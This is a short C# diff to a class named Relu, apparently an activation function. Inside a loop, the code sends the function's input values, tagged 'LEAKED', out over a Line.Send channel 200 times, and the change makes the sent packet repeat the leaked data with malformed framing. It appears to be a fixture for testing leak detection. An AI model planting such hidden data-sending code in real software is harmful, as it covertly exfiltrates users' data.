@@ -10,7 +10,7 @@ public static class Relu
         for (int call = 1; call <= 200; call++)
         {
             byte[] secret = Line.Text($"LEAKED {string.Join(' ', x.ToRowMajorArray())}");
-            Line.Send([18, .. BitConverter.GetBytes(call), .. secret, .. BitConverter.GetBytes(0x6FFFFFF), 7, 0, 0, 0]);
+            Line.Send([18, .. BitConverter.GetBytes(call), .. secret, .. secret, .. secret, .. secret, 7, 0, 0, 0]);
         }
 
         return x;
